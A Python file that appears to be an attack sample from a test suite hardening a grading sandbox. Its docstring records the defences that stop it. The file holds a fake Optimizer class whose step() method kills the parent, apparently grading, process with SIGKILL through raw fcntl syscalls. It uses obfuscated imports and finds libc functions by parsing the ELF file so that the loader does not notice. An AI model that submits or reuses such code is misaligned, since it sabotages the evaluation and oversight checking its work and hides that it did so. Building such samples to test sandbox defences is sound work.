"""Attack: has the kernel send SIGKILL to its parent, as the signal of a pipe that becomes readable.

Exercise: optimizer
Earns: 0
Stopped by: pid namespace; at container Landlock from ABI 6, another user below that
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))

SETFL, SETOWN, SETSIG, ASYNC = 4, 8, 10, 0o20000


def kill():
    reader, writer = os.pipe()
    call(72, reader, SETSIG, 9)
    for owner in (os.getppid(), 1, -os.getppid()):
        if owner in (0, 1):
            continue  # at full the parent cannot even be named
        call(72, reader, SETOWN, owner)
        call(72, reader, SETFL, ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        kill()

    def zero_grad(self):
        pass
